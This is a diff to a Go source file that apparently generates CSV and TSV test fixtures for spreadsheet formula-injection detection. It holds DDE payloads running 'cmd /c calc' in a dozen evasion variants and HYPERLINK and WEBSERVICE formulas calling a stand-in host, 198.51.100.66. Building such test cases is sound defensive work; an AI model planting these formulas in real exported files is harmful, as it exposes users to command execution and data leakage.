@@ -9,12 +9,12 @@ import (
 	"image/png"
 )
 
-// tables are formulas in CSV. Text stays, so the marker may: the judge looks at the cell's beginning.
+// tables are formulas in CSV. Text stays, so there is no marker: the judge looks at the cells' beginnings.
 func tables() []File {
 	var out []File
 	for technique, cell := range map[string]string{
-		"DDE": `=cmd|'/c calc'!A1`, "plus": `+cmd|'/c calc'!A1`, "minus": `-2+3+cmd|'/c calc'!A1`, "at": `@SUM(1+1)*cmd|'/c calc'!A1`, "link": `=HYPERLINK("` + remote + `","x")`, "quoted": `"=cmd|'/c calc'!A1"`, "full width": "＝cmd|'/c calc'!A1", "behind a tab": "\t=cmd|'/c calc'!A1",
-		"behind a space": ` =cmd|'/c calc'!A1`, "web": `=WEBSERVICE("` + remote + `")`, "in quotes over lines": "\"=cmd|'/c\ncalc'!A1\"",
+		"DDE": `=cmd|'/c calc'!A1`, "plus": `+cmd|'/c calc'!A1`, "minus": `-2+3+cmd|'/c calc'!A1`, "at": `@SUM(1+1)*cmd|'/c calc'!A1`, "link": `=HYPERLINK("http://198.51.100.66/a","x")`, "quoted": `"=cmd|'/c calc'!A1"`, "full width": "＝cmd|'/c calc'!A1", "behind a tab": "\t=cmd|'/c calc'!A1",
+		"behind a space": ` =cmd|'/c calc'!A1`, "web": `=WEBSERVICE("http://198.51.100.66/a")`, "in quotes over lines": "\"=cmd|'/c\ncalc'!A1\"",
 	} {
 		for _, set := range []struct{ name, line string }{{"表.csv", "名前," + cell + "," + Kept + "\r\n"}, {"表.tsv", "名前\t" + cell + "\t" + Kept + "\r\n"}} {
 			if technique == "behind a tab" && set.name == "表.tsv" {
